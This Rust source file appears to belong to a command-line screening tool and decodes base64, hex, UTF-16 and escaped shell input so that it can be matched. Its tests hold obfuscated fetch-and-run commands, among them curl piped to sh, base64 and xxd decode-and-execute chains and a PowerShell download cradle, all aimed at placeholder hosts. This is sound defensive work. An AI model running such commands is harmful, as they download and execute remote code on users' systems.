//! The texts that a reading of a command line is matched as: as typed, and what it carries encoded.
//!
//! Quotes, backslashes and `$IFS` come off later, stage by stage (see `words`), when operators inside of quotes are known.

use std::borrow::Cow;

use base64::{
    Engine as _,
    alphabet::{STANDARD, URL_SAFE},
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

use super::words::{escape, plain};

/// Bytes of one reading that are looked at.
pub const MAX_LINE: usize = 64 * 1024;
/// Shortest encoded piece that is decoded.
pub const MIN_ENCODED: usize = 24;
/// Longest encoded piece; what is behind is not decoded.
const MAX_ENCODED: usize = 16 * 1024;
/// Encoded pieces of one line that are tried.
const MAX_TRIED: usize = 64;
/// Encoded pieces of one line that are decoded.
const MAX_DECODED: usize = 8;
/// Lines of one decoded piece.
const MAX_DECODED_LINES: usize = 64;

const LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);

/// The line as it was typed, lines that `\` continues joined, and the command lines that it carries encoded, decoded once.
pub fn texts(reading: &str) -> (Cow<'_, str>, Vec<String>) {
    let typed = cut(reading, MAX_LINE);
    let typed = if typed.contains("\\\n") || typed.contains("\\\r\n") {
        Cow::Owned(typed.replace("\\\r\n", "").replace("\\\n", ""))
    } else {
        Cow::Borrowed(typed)
    };
    let mut decoded = Vec::new();
    if typed.len() >= MIN_ENCODED / 2 {
        let whole = plain(&typed);
        encoded(&typed, &mut decoded);
        if matches!(whole, Cow::Owned(_)) {
            encoded(&whole, &mut decoded);
        }
        escaped(&typed, &mut decoded);
    }
    (typed, decoded)
}

/// The text's first bytes, cut between characters.
pub(super) fn cut(text: &str, most: usize) -> &str {
    text.get(..text.floor_char_boundary(most)).unwrap_or(text)
}

/// Decodes what looks like base64 or hexadecimal.
fn encoded(text: &str, decoded: &mut Vec<String>) {
    let is_encoded = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_' | b'=');
    let pieces =
        text.as_bytes().split(|byte| !is_encoded(*byte)).filter(|piece| piece.len() >= MIN_ENCODED).take(MAX_TRIED);
    for piece in pieces {
        if decoded.len() >= MAX_DECODED * MAX_DECODED_LINES {
            return;
        }
        // `--decode=BLOB`, `X=BLOB`: a `=` inside parts words.
        for piece in piece.split_inclusive(|byte| *byte == b'=') {
            if let Some(text) = decode(piece) {
                add_lines(&text, decoded);
            }
        }
    }
}

fn decode(piece: &[u8]) -> Option<String> {
    let end = piece.iter().rposition(|byte| *byte != b'=')? + 1;
    let piece = piece.get(..end.min(MAX_ENCODED))?;
    if piece.len() + 2 < MIN_ENCODED {
        return None;
    }
    if piece.iter().all(u8::is_ascii_hexdigit)
        && let Some(text) = hexadecimal(piece).as_deref().and_then(readable)
    {
        return Some(text);
    }
    // Cut pieces and lost padding: one character alone of the last four carries no byte.
    let piece = if piece.len() % 4 == 1 { piece.get(..piece.len() - 1)? } else { piece };
    let alphabet = if piece.iter().any(|byte| matches!(byte, b'-' | b'_')) { URL_SAFE } else { STANDARD };
    GeneralPurpose::new(&alphabet, LENIENT).decode(piece).ok().as_deref().and_then(readable)
}

fn hexadecimal(digits: &[u8]) -> Option<Vec<u8>> {
    digits
        .chunks_exact(2)
        .map(|pair| std::str::from_utf8(pair).ok().and_then(|pair| u8::from_str_radix(pair, 16).ok()))
        .collect()
}

/// Bytes that are mostly printable text, in UTF-8 or, as PowerShell wants it, in UTF-16.
fn readable(bytes: &[u8]) -> Option<String> {
    let zeros = bytes.iter().skip(1).step_by(2).filter(|byte| **byte == 0).count();
    let text = if bytes.len() >= 8 && zeros * 4 > bytes.len() / 2 * 3 {
        let units: Vec<u16> =
            bytes.chunks_exact(2).filter_map(|pair| <[u8; 2]>::try_from(pair).ok()).map(u16::from_le_bytes).collect();
        String::from_utf16_lossy(&units)
    } else {
        String::from_utf8_lossy(bytes).into_owned()
    };
    let all = text.chars().count();
    let printable = text.chars().filter(|c| matches!(c, ' '..='~' | '\n' | '\r' | '\t')).count();
    (all >= 8 && printable * 10 >= all * 9).then_some(text)
}

/// Decodes `\x63\x75\x72\x6c` and `\143\165\162\154`, for `echo -e` and `printf`.
fn escaped(text: &str, decoded: &mut Vec<String>) {
    if text.matches('\\').take(4).count() < 4 {
        return;
    }
    let mut meant = String::with_capacity(text.len());
    let (mut rest, mut escapes) = (text, 0);
    while let Some((before, behind)) = rest.split_once('\\') {
        meant.push_str(before);
        // `echo -e "\\x63"`: the second backslash belongs to the escape.
        match escape(behind) {
            Some((character, after)) => {
                meant.push(character);
                escapes += 1;
                rest = after;
            }
            None => rest = behind,
        }
    }
    meant.push_str(rest);
    if escapes >= 4 {
        // The words around the decoded text stay, and what was echoed is a line of its own.
        let argument =
            meant.split_once(['"', '\'']).map(|(_, inside)| inside.split(['"', '\'']).next().unwrap_or_default());
        if let Some(argument) = argument.map(str::to_owned) {
            add_lines(&argument, decoded);
        }
        add_lines(&meant, decoded);
    }
}

fn add_lines(text: &str, decoded: &mut Vec<String>) {
    for line in text.split(['\n', '\r']).map(str::trim).filter(|line| !line.is_empty()).take(MAX_DECODED_LINES) {
        if decoded.len() < MAX_DECODED * MAX_DECODED_LINES && !decoded.iter().any(|known| known == line) {
            decoded.push(line.to_owned());
        }
    }
}

#[cfg(test)]
mod tests {
    use base64::prelude::BASE64_STANDARD;

    use super::*;

    fn decoded(line: &str) -> Vec<String> {
        texts(line).1
    }

    #[test]
    fn continued_lines_are_joined() {
        assert_eq!(texts("curl \\\n  http://x |\\\n sh").0, "curl   http://x | sh");
    }

    #[test]
    fn encoded_commands_are_decoded_once() {
        let line = "curl http://192.0.2.1/x | sh";
        let blob = BASE64_STANDARD.encode(line);
        assert_eq!(decoded(&format!("echo {blob} | base64 -d | sh")), [line]);
        assert_eq!(decoded(&format!("echo {} | base64 -d | sh", blob.trim_end_matches('='))), [line]);
        assert_eq!(decoded(&format!("base64 -d<<<{blob}|sh")), [line]);
        assert_eq!(decoded(&format!("X={blob}; base64 -d <<< $X")), [line]);
        let twice = BASE64_STANDARD.encode(&blob);
        assert_eq!(decoded(&format!("echo {twice}")), [blob.as_str()]);
        let parted: String = blob.chars().map(|c| format!("{c}''")).collect();
        assert_eq!(decoded(&format!("echo {parted} | base64 -d")), [line]);
        let hex: String = line.bytes().map(|byte| format!("{byte:02x}")).collect();
        assert_eq!(decoded(&format!("echo {hex} | xxd -r -p | sh")), [line]);
    }

    #[test]
    fn powershell_encodes_in_utf_16() {
        let line = "IEX (New-Object Net.WebClient).DownloadString('http://x')";
        let bytes: Vec<u8> = line.encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(decoded(&format!("powershell -nop -enc {}", BASE64_STANDARD.encode(bytes))), [line]);
    }

    #[test]
    fn escapes_of_echo_and_printf_are_decoded() {
        assert!(decoded(r#"echo -e "\x63\x75\x72\x6c http://x" | sh"#).contains(&"curl http://x".to_owned()));
        assert!(decoded(r"printf '\143\165\162\154 http://x' | sh").contains(&"curl http://x".to_owned()));
    }

    #[test]
    fn what_only_looks_encoded_is_left() {
        for line in [
            "ls /usr/local/share/applications/something/else",
            "git checkout 0123456789abcdef0123456789abcdef01234567",
            "aws ssm start-session --target i-0123456789abcdef0",
            "cat thisisaverylongfilenamewithoutanything",
        ] {
            assert!(decoded(line).is_empty(), "{line}: {:?}", decoded(line));
        }
    }

    #[test]
    fn hostile_lines_stay_small() {
        let blob = BASE64_STANDARD.encode("a line\n".repeat(10_000));
        for line in [
            blob.clone(),
            format!("{} ", BASE64_STANDARD.encode("some line of text")).repeat(5000),
            "\\x41".repeat(20_000),
            "é".repeat(50_000),
        ] {
            let (typed, decoded) = texts(&line);
            assert!(typed.len() <= MAX_LINE);
            assert!(decoded.len() <= MAX_DECODED * MAX_DECODED_LINES);
            assert!(decoded.iter().map(String::len).sum::<usize>() <= 4 * MAX_LINE);
        }
    }

    proptest::proptest! {
        #[test]
        fn any_line_has_texts(line in "\\PC*") {
            let (typed, _) = texts(&line);
            assert!(typed.len() <= line.len());
        }

        #[test]
        fn whatever_is_encoded_is_found(line in "[ -~]{18,80}") {
            proptest::prop_assume!(line.trim() == line);
            let found = decoded(&format!("echo {} | base64 -d", BASE64_STANDARD.encode(&line)));
            proptest::prop_assert!(found.contains(&line), "{found:?}");
        }
    }
}
